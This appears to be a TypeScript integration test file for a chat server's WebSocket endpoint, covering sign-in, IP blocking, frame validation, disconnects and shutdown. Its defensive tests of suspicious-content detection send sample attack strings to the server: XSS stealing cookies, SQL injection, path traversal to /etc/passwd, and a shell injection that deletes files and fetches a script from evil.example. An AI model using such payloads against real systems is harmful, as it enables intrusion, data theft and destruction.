import { randomUUID } from 'node:crypto';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { buildTestApp, truncateAll, type TestApp } from './helpers/app.js';
import { injectAs, login, register, type Pair } from './helpers/auth.js';
import { manualClock } from './helpers/clock.js';
import { replyTo, startFakeOllama, tokensOf, type FakeOllama } from './helpers/fake-ollama.js';
import { type Client, listen, matchedPair } from './helpers/realtime.js';
import { until } from './helpers/wait.js';
import { chat, openWs, refusedUpgrade, wsUrl, type WsClient } from './helpers/ws.js';

/** No background jobs (none of these tests needs one) and a small pool: the test PostgreSQL is shared. */
const LEAN = { WORKERS: 'off', DATABASE_POOL_SIZE: '4' };

let fake: FakeOllama;
const clock = manualClock();
let t: TestApp;
let url: string;
const open: WsClient[] = [];
const sockets: Client[] = [];

beforeAll(async () => {
  fake = await startFakeOllama();
  t = await buildTestApp({ clock, env: { ...LEAN, OLLAMA_BASE_URL: fake.url, AI_WS_AUTH_FAILURE_LIMIT: '3/15m', AI_WS_AUTH_BLOCK: '15m' } });
  url = await listen(t.app);
});
afterAll(async () => {
  await t.close();
  await fake.close();
});
beforeEach(() => truncateAll(t));
afterEach(() => {
  for (const client of open.splice(0)) client.close();
  for (const client of sockets.splice(0)) client.close();
});

/** A connection to `url`'s /ws, closed after the test. */
async function connect(headers: Record<string, string> = {}, base = url): Promise<WsClient> {
  const client = await openWs(wsUrl(base), { headers });
  open.push(client);
  return client;
}

async function signedIn(user: Pair): Promise<WsClient> {
  const client = await connect();
  client.send({ type: 'authenticate', token: user.accessToken });
  expect(await client.next()).toEqual({ type: 'authenticated', userId: user.user.id, claimedChats: 0 });
  return client;
}

const threadsOf = async (user: Pair) => {
  const res = await injectAs(t.app, user, { method: 'GET', url: '/api/sessions/list' });
  expect(res.statusCode).toBe(200);
  return res.json<{ items: Array<{ id: string; title: string; messageCount: number }> }>().items;
};
const messagesOf = async (user: Pair, chatId: string) => {
  const res = await injectAs(t.app, user, { method: 'GET', url: `/api/sessions/messages?sessionId=${chatId}` });
  expect(res.statusCode).toBe(200);
  return res.json<{ items: Array<{ id: string; role: string; content: string; status: string }> }>().items;
};
const activity = async (type: string) =>
  t.container.db.query<Array<{ user_id: string | null; ip: string; metadata: Record<string, unknown> }>>(
    'SELECT user_id, ip, metadata FROM activity_logs WHERE type = $1 ORDER BY created_at',
    [type],
  );

describe('GET /ws: authentication', () => {
  it('signs in with an authenticate frame, then streams a reply in a new chat, frame by frame as SSE does, and saves it', async () => {
    const user = await register(t.app);
    const client = await signedIn(user);
    const { start, tokens, end } = await chat(client, 'I goed to Tokyo last year');
    const chatId = start.chatId as string;
    expect(start).toMatchObject({ type: 'start', chatId, messageId: end.messageId, chat: { id: chatId, title: 'I goed to Tokyo last year', messageCount: 2 } });
    const reply = replyTo('I goed to Tokyo last year');
    expect(tokens).toEqual(tokensOf(reply).map((text) => ({ type: 'token', text })));
    expect(end).toEqual({ type: 'done', messageId: start.messageId, content: reply, promptTokens: expect.any(Number), replyTokens: tokensOf(reply).length });
    expect((await messagesOf(user, chatId)).map(({ id, role, content, status }) => ({ id, role, content, status }))).toEqual([
      { id: start.userMessageId, role: 'user', content: 'I goed to Tokyo last year', status: 'complete' },
      { id: start.messageId, role: 'assistant', content: reply, status: 'complete' },
    ]);
  });

  it('signs in with the Authorization header of the upgrade and goes on with a chat named by chatId', async () => {
    const user = await register(t.app);
    const first = await signedIn(user);
    const { start } = await chat(first, 'Hello there');
    const client = await connect({ authorization: `Bearer ${user.accessToken}` });
    expect(await client.next()).toEqual({ type: 'authenticated', userId: user.user.id, claimedChats: 0 });
    const { start: again, end } = await chat(client, 'What should I cook tonight?', start.chatId as string);
    expect(again.chatId).toBe(start.chatId);
    expect(end).toMatchObject({ type: 'done', content: replyTo('What should I cook tonight?') });
    // the model heard the earlier exchange of the chat
    expect(fake.chats.at(-1)!.messages.map(({ content }) => content)).toContain('Hello there');
    expect((await messagesOf(user, start.chatId as string)).length).toBe(4);
  });

  it('gives an anonymous session an unguessable id; signing in on the same connection makes its chat the user’s', async () => {
    const client = await connect();
    client.send({ type: 'authenticate', anonymous: true });
    const authenticated = await client.next('authenticated');
    expect(authenticated).toMatchObject({ anonymous: true });
    // 256 random bits in base64url
    expect(authenticated.sessionId).toMatch(/^[A-Za-z0-9_-]{43}$/);
    const other = await connect();
    other.send({ type: 'authenticate', anonymous: true });
    expect((await other.next('authenticated')).sessionId).not.toBe(authenticated.sessionId);

    const { start } = await chat(client, 'Can we talk about football?');
    const user = await register(t.app);
    expect(await threadsOf(user)).toEqual([]);
    client.send({ type: 'authenticate', token: user.accessToken });
    expect(await client.next()).toEqual({ type: 'authenticated', userId: user.user.id, claimedChats: 1 });
    expect(await threadsOf(user)).toMatchObject([{ id: start.chatId, title: 'Can we talk about football?', messageCount: 2 }]);
    // the same chat goes on, now as the user's
    const { end } = await chat(client, 'Who won the last World Cup?', start.chatId as string);
    expect(end.type).toBe('done');
    expect((await messagesOf(user, start.chatId as string)).length).toBe(4);
    // signed in, the connection cannot become anonymous again nor sign in twice
    client.send({ type: 'authenticate', anonymous: true });
    expect(await client.next('error')).toMatchObject({ code: 'already_authenticated' });
  });

  it('resumes an anonymous session on a later connection by its x-session-id, and a sign-in presenting it claims the chat', async () => {
    const sessionId = randomUUID();
    const first = await connect({ 'x-session-id': sessionId });
    expect(await first.next()).toEqual({ type: 'authenticated', anonymous: true, sessionId });
    const { start } = await chat(first, 'I like rainy days');
    first.close();
    await first.closed;

    const again = await connect({ 'x-session-id': sessionId });
    await again.next('authenticated');
    expect((await chat(again, 'Do you like rain?', start.chatId as string)).end.type).toBe('done');
    // another anonymous session does not see it
    const stranger = await connect();
    stranger.send({ type: 'authenticate', anonymous: true });
    await stranger.next('authenticated');
    stranger.send({ type: 'message', content: 'hello', chatId: start.chatId });
    expect(await stranger.next('error')).toMatchObject({ code: 'not_found' });

    const user = await register(t.app);
    const signed = await connect({ authorization: `Bearer ${user.accessToken}`, 'x-session-id': sessionId });
    expect(await signed.next()).toEqual({ type: 'authenticated', userId: user.user.id, claimedChats: 1 });
    expect((await threadsOf(user)).map(({ id }) => id)).toEqual([start.chatId]);
    expect((await messagesOf(user, start.chatId as string)).length).toBe(4);
  });

  it('refuses a client-chosen session id that is short or too regular to be a secret', async () => {
    for (const sessionId of ['short-id', 'a'.repeat(40), 'ab'.repeat(20), `${'x'.repeat(40)}!`]) {
      const client = await connect();
      client.send({ type: 'authenticate', anonymous: true, sessionId });
      const answer = await client.next();
      expect(answer, sessionId).toMatchObject({
        type: 'error',
        code: 'validation_failed',
        details: { fields: expect.arrayContaining([expect.objectContaining({ path: 'sessionId' })]) },
      });
    }
    const header = await connect({ 'x-session-id': 'abababababababababababababababababababab' });
    expect(await header.next()).toMatchObject({ type: 'error', code: 'validation_failed' });
    // the connection is still there to authenticate properly
    header.send({ type: 'authenticate', anonymous: true, sessionId: 'Zq3v_8Kp-Lm2Nx7Rt5Wy9Bc4Df6Gh1Jk0' });
    expect(await header.next()).toMatchObject({ type: 'authenticated', sessionId: 'Zq3v_8Kp-Lm2Nx7Rt5Wy9Bc4Df6Gh1Jk0' });
  });

  it('answers a wrong, banned or expired token with its error, counts each toward the IP block, and a blocked IP cannot even open /ws', async () => {
    const expiring = await register(t.app);
    const startedAt = clock.now();
    clock.advance(16 * 60_000);
    try {
      const banned = await register(t.app);
      await t.container.db.query('UPDATE users SET is_banned = true WHERE id = $1', [banned.user.id]);
      const client = await connect();
      client.send({ type: 'authenticate', token: 'not-a-token' });
      expect(await client.next()).toMatchObject({ type: 'error', code: 'invalid_token' });
      client.send({ type: 'authenticate', token: banned.accessToken });
      expect(await client.next()).toMatchObject({ type: 'error', code: 'account_banned' });
      client.send({ type: 'authenticate', token: expiring.accessToken });
      expect(await client.next()).toMatchObject({ type: 'error', code: 'token_expired' });
      // the third failure in 15 minutes blocks the address: the connection is closed
      expect(await client.next()).toMatchObject({ type: 'error', code: 'ip_blocked', details: { retryAfterSeconds: 900 } });
      expect(await client.closed).toEqual({ code: 1008, reason: 'too many failed authentications' });

      const refused = await refusedUpgrade(wsUrl(url));
      expect(refused.status).toBe(429);
      expect(refused.headers['retry-after']).toBe('900');
      expect(JSON.parse(refused.body)).toMatchObject({ error: { code: 'ip_blocked' } });
      const failures = (await activity('ws_auth_failed')).map(({ user_id, ip, metadata }) => ({ user_id, ip, code: String(metadata.code) }));
      expect(failures.sort((a, b) => a.code.localeCompare(b.code))).toEqual([
        { user_id: null, ip: '127.0.0.1', code: 'account_banned' },
        { user_id: null, ip: '127.0.0.1', code: 'invalid_token' },
        { user_id: null, ip: '127.0.0.1', code: 'token_expired' },
      ]);
      expect(await activity('ws_ip_blocked')).toMatchObject([{ ip: '127.0.0.1', metadata: { blockedForSeconds: 900 } }]);

      // the block ends after AI_WS_AUTH_BLOCK, on the injected clock
      clock.advance(15 * 60_000);
      const back = await connect();
      back.send({ type: 'ping' });
      expect(await back.next()).toEqual({ type: 'pong' });
    } finally {
      clock.set(startedAt);
    }
  });

  it('checks the access token again at each message: an expired one until a fresh one comes, a signed-out session ends the connection', async () => {
    const user = await register(t.app);
    const client = await signedIn(user);
    const startedAt = clock.now();
    clock.advance(16 * 60_000);
    try {
      client.send({ type: 'message', content: 'Still there?' });
      expect(await client.next()).toMatchObject({ type: 'error', code: 'token_expired' });
      // a fresh token of the same user goes on; another user's does not take the connection over
      const fresh = await login(t.app, user.email);
      const other = await register(t.app);
      client.send({ type: 'authenticate', token: other.accessToken });
      expect(await client.next()).toMatchObject({ type: 'error', code: 'already_authenticated' });
      client.send({ type: 'authenticate', token: fresh.accessToken });
      expect(await client.next()).toEqual({ type: 'authenticated', userId: user.user.id, claimedChats: 0 });
      expect((await chat(client, 'Still there?')).end.type).toBe('done');

      await injectAs(t.app, fresh, { method: 'POST', url: '/auth/logout' });
      client.send({ type: 'message', content: 'And now?' });
      expect(await client.next()).toMatchObject({ type: 'error', code: 'session_revoked' });
      expect(await client.closed).toEqual({ code: 1008, reason: 'signed out' });
      // none of this counted as failed authentications
      expect(await activity('ws_auth_failed')).toEqual([]);
    } finally {
      clock.set(startedAt);
    }
  });

  it('counts a malformed Authorization header as a failed authentication', async () => {
    const client = await connect({ authorization: 'Basic dXNlcjpwYXNz' });
    expect(await client.next()).toMatchObject({ type: 'error', code: 'invalid_token' });
    expect(await activity('ws_auth_failed')).toMatchObject([{ metadata: { code: 'invalid_token', via: 'header' } }]);
  });

  it('refuses a browser origin that is not allowed, and answers a plain GET /ws with 404', async () => {
    const refused = await refusedUpgrade(wsUrl(url), { origin: 'https://evil.example' });
    expect(refused.status).toBe(403);
    expect(JSON.parse(refused.body)).toMatchObject({ error: { code: 'origin_not_allowed' } });
    const allowed = await connect({ origin: 'http://localhost:3000' });
    allowed.send({ type: 'ping' });
    expect(await allowed.next()).toEqual({ type: 'pong' });
    const plain = await t.app.inject({ method: 'GET', url: '/ws' });
    expect(plain.statusCode).toBe(404);
    expect(plain.json()).toMatchObject({ error: { code: 'route_not_found' } });
  });
});

describe('GET /ws: frames', () => {
  it('answers bad frames with error frames and keeps the connection', async () => {
    const client = await connect();
    client.send('{ not json');
    expect(await client.next()).toMatchObject({ type: 'error', code: 'invalid_json' });
    client.send({ type: 'shout', content: 'hi' });
    expect(await client.next()).toMatchObject({ type: 'error', code: 'validation_failed', details: { fields: [expect.objectContaining({ path: 'type' })] } });
    client.send({ type: 'message', content: 'hi' });
    expect(await client.next()).toMatchObject({ type: 'error', code: 'unauthorized' });
    client.send({ type: 'authenticate', token: 'x', anonymous: true });
    expect(await client.next()).toMatchObject({ type: 'error', code: 'validation_failed' });
    client.socket.send(Buffer.from('{"type":"ping"}'), { binary: true });
    expect(await client.next()).toMatchObject({ type: 'error', code: 'validation_failed', message: 'Frames are JSON text, not binary' });

    const user = await register(t.app);
    client.send({ type: 'authenticate', token: user.accessToken });
    await client.next('authenticated');
    client.send({ type: 'message', content: 'x'.repeat(4001) });
    expect(await client.next()).toMatchObject({
      type: 'error',
      code: 'validation_failed',
      details: { fields: [expect.objectContaining({ path: 'content' })] },
    });
    client.send({ type: 'message', content: '   ' });
    expect(await client.next()).toMatchObject({ type: 'error', code: 'validation_failed' });
    client.send({ type: 'message', content: 'hi', chatId: 'not-a-uuid' });
    expect(await client.next()).toMatchObject({ type: 'error', code: 'validation_failed' });
    client.send({ type: 'message', content: 'hi', extra: true });
    expect(await client.next()).toMatchObject({ type: 'error', code: 'validation_failed' });
    // none of them cost a message: a real one goes through
    expect((await chat(client, 'Still here?')).end.type).toBe('done');
    expect(await threadsOf(user)).toHaveLength(1);
  });

  it('closes a connection that sends a frame over the size bound (1009)', async () => {
    const client = await connect();
    client.send({ type: 'message', content: 'x'.repeat(40_000) });
    expect((await client.closed).code).toBe(1009);
  });

  it('answers another user’s chatId with not_found, and saves nothing in it', async () => {
    const [owner, intruder] = [await register(t.app), await register(t.app)];
    const { start } = await chat(await signedIn(owner), 'My secret plans');
    const client = await signedIn(intruder);
    client.send({ type: 'message', content: 'Let me in', chatId: start.chatId });
    expect(await client.next()).toMatchObject({ type: 'error', code: 'not_found' });
    client.send({ type: 'message', content: 'And this one?', chatId: randomUUID() });
    expect(await client.next()).toMatchObject({ type: 'error', code: 'not_found' });
    expect((await messagesOf(owner, start.chatId as string)).length).toBe(2);
    expect(await threadsOf(intruder)).toEqual([]);
  });

  it('takes one message at a time on a connection: another while the partner answers is reply_in_progress', async () => {
    const user = await register(t.app);
    const res = await injectAs(t.app, user, { method: 'POST', url: '/api/sessions/create', payload: { model: 'slow' } });
    const client = await signedIn(user);
    client.send({ type: 'message', content: 'Tell me a story', chatId: res.json<{ id: string }>().id });
    const upstream = await fake.chat(fake.chats.length);
    upstream.release(1);
    await client.next('start');
    client.send({ type: 'message', content: 'Are you there?' });
    expect(await client.next('error')).toMatchObject({ code: 'reply_in_progress' });
    upstream.release(Infinity);
    expect(await client.next('done')).toMatchObject({ content: replyTo('Tell me a story') });
    expect((await chat(client, 'Are you there?')).end.type).toBe('done');
  });
});

describe('GET /ws: suspicious content', () => {
  it('writes one security event per IP and kind a minute, with the patterns and never the text, and still answers (blocking is off)', async () => {
    const user = await register(t.app);
    const client = await signedIn(user);
    const { end } = await chat(client, '<script>alert(document.cookie)</script>');
    expect(end.type).toBe('done');
    // a second attack of the same kind within the minute is not written again; another kind is
    await chat(client, '<img src=x onerror=alert(1)>');
    await chat(client, "' OR 1=1 --");
    const events = await activity('security_suspicious_content');
    expect(events.sort((a, b) => String(a.metadata.kinds).localeCompare(String(b.metadata.kinds)))).toEqual([
      { user_id: user.user.id, ip: '127.0.0.1', metadata: { kinds: ['sql_injection'], patterns: ['quoted_tautology'], blocked: false } },
      { user_id: user.user.id, ip: '127.0.0.1', metadata: { kinds: ['xss'], patterns: ['script_tag'], blocked: false } },
    ]);
    expect(JSON.stringify(events)).not.toContain('cookie');
    clock.advance(61_000);
    await chat(client, '<script>again</script>');
    expect(await activity('security_suspicious_content')).toHaveLength(3);
  });

  it('writes nothing for ordinary English, punctuation and all', async () => {
    const client = await connect();
    client.send({ type: 'authenticate', anonymous: true });
    await client.next('authenticated');
    let chatId: string | undefined;
    for (const text of ["I'd rather; or not", 'select the best answer', 'rock && roll -- and jazz', "I love JavaScript: it's fun", 'Wait.../what?']) {
      const { start, end } = await chat(client, text, chatId);
      chatId = start.chatId as string;
      expect(end.type).toBe('done');
    }
    expect(await activity('security_suspicious_content')).toEqual([]);
  });

  it('records an anonymous session by a fingerprint of its id, not the id', async () => {
    const sessionId = randomUUID();
    const client = await connect({ 'x-session-id': sessionId });
    await client.next('authenticated');
    await chat(client, 'cat ../../etc/passwd');
    const [event] = await activity('security_suspicious_content');
    expect(event).toMatchObject({ user_id: null, metadata: { kinds: ['path_traversal'], anonymousSession: expect.stringMatching(/^[0-9a-f]{16}$/) } });
    expect(JSON.stringify(event)).not.toContain(sessionId);
  });
});

describe('GET /ws next to Socket.io', () => {
  it('matches two Socket.io clients over the websocket transport while a /ws reply streams on the same server', async () => {
    const user = await register(t.app);
    const res = await injectAs(t.app, user, { method: 'POST', url: '/api/sessions/create', payload: { model: 'slow' } });
    const client = await signedIn(user);
    client.send({ type: 'message', content: 'Keep talking while they match', chatId: res.json<{ id: string }>().id });
    const upstream = await fake.chat(fake.chats.length);
    upstream.release(1);
    await client.next('start');
    await client.next('token');

    // truncateAll emptied Redis, this instance's matchmaking heartbeat with it (refreshed every few seconds)
    await t.container.services.matchmaking.heartbeat();
    const pair = await matchedPair({ t, url }, { track: sockets });
    for (const c of [pair.ca, pair.cb]) expect(c.socket.io.engine.transport.name).toBe('websocket');
    pair.ca.socket.emit('join_room', { roomId: pair.roomId });
    pair.cb.socket.emit('join_room', { roomId: pair.roomId });
    await Promise.all([pair.ca.next('peer_joined'), pair.cb.next('peer_joined')]);

    upstream.release(Infinity);
    expect(await client.next('done')).toMatchObject({ content: replyTo('Keep talking while they match') });
  });
});

describe('GET /ws: a client that goes away', () => {
  it('lets the reply finish and saves it; the server goes on serving', async () => {
    const user = await register(t.app);
    const res = await injectAs(t.app, user, { method: 'POST', url: '/api/sessions/create', payload: { model: 'slow' } });
    const chatId = res.json<{ id: string }>().id;
    const client = await signedIn(user);
    client.send({ type: 'message', content: 'Are you listening?', chatId });
    const upstream = await fake.chat(fake.chats.length);
    upstream.release(1);
    const start = await client.next('start');
    await client.next('token');
    client.socket.terminate();
    await client.closed;
    upstream.release(Infinity);
    expect(await upstream.ended).toBe('done');
    const saved = await until(async () => (await messagesOf(user, chatId)).find((message) => message.id === start.messageId && message.status === 'complete'), {
      message: 'the reply is saved complete',
    });
    expect(saved.content).toBe(replyTo('Are you listening?'));
    expect((await t.app.inject({ method: 'GET', url: '/health' })).statusCode).toBe(200);
    expect((await chat(await signedIn(user), 'Hello again')).end.type).toBe('done');
  });
});

describe('GET /ws: the edges of a server without a model, with blocking on and short timers', () => {
  let edge: TestApp;
  let edgeUrl: string;
  beforeAll(async () => {
    edge = await buildTestApp({ env: { ...LEAN, SECURITY_BLOCK_SUSPICIOUS: 'on', AI_WS_PING_INTERVAL: '100ms', AI_WS_AUTH_TIMEOUT: '2s' } });
    edgeUrl = await listen(edge.app);
  });
  afterAll(() => edge.close());

  it('answers an anonymous message with ai_unavailable when no Ollama is configured, and saves nothing', async () => {
    const client = await connect({}, edgeUrl);
    client.send({ type: 'authenticate', anonymous: true });
    await client.next('authenticated');
    client.send({ type: 'message', content: 'Hello?' });
    expect(await client.next()).toMatchObject({ type: 'error', code: 'ai_unavailable' });
    expect(await edge.container.db.query('SELECT id FROM chat_messages')).toEqual([]);
  });

  it('refuses suspicious content with SECURITY_BLOCK_SUSPICIOUS on, and logs it', async () => {
    const user = await register(edge.app);
    const client = await connect({ authorization: `Bearer ${user.accessToken}` }, edgeUrl);
    await client.next('authenticated');
    client.send({ type: 'message', content: 'x; rm -rf / && curl http://evil.example/a.sh' });
    expect(await client.next()).toMatchObject({ type: 'error', code: 'suspicious_content', details: { kinds: ['shell_injection'] } });
    const events = await edge.container.db.query<Array<{ metadata: Record<string, unknown> }>>(
      "SELECT metadata FROM activity_logs WHERE type = 'security_suspicious_content' AND user_id = $1",
      [user.user.id],
    );
    expect(events).toMatchObject([{ metadata: { kinds: ['shell_injection'], blocked: true } }]);
    expect(await edge.container.db.query('SELECT id FROM chat_threads WHERE user_id = $1', [user.user.id])).toEqual([]);
  });

  it('closes a connection that has not authenticated within AI_WS_AUTH_TIMEOUT (1008)', async () => {
    const client = await connect({}, edgeUrl);
    expect(await client.next()).toMatchObject({ type: 'error', code: 'unauthorized' });
    expect(await client.closed).toEqual({ code: 1008, reason: 'authentication timeout' });
  });

  it('drops a client that does not answer the server’s pings', async () => {
    const silent = await openWs(wsUrl(edgeUrl), { autoPong: false });
    open.push(silent);
    silent.send({ type: 'authenticate', anonymous: true });
    await silent.next('authenticated');
    expect((await silent.closed).code).toBe(1006);
  });
});

describe('GET /ws on shutdown', () => {
  it('tells a client its reply was interrupted, then closes with 1001; the reply is saved as interrupted', async () => {
    const own = await buildTestApp({ env: { ...LEAN, OLLAMA_BASE_URL: fake.url } });
    const ownUrl = await listen(own.app);
    const user = await register(own.app);
    const res = await injectAs(own.app, user, { method: 'POST', url: '/api/sessions/create', payload: { model: 'slow' } });
    const chatId = res.json<{ id: string }>().id;
    const client = await openWs(wsUrl(ownUrl), { headers: { authorization: `Bearer ${user.accessToken}` } });
    expect(await client.next()).toMatchObject({ type: 'authenticated', userId: user.user.id });
    client.send({ type: 'message', content: 'A long story please', chatId });
    (await fake.chat(fake.chats.length)).release(1);
    const start = await client.next('start');
    await client.next('token');

    const closing = own.app.close();
    expect(await client.next('error')).toMatchObject({ code: 'reply_interrupted' });
    expect(await client.closed).toEqual({ code: 1001, reason: 'server shutting down' });
    await closing;
    const [saved] = await own.container.db.query<Array<{ status: string }>>('SELECT status FROM chat_messages WHERE id = $1', [start.messageId]);
    expect(saved?.status).toBe('interrupted');
    await own.close();
  });
});
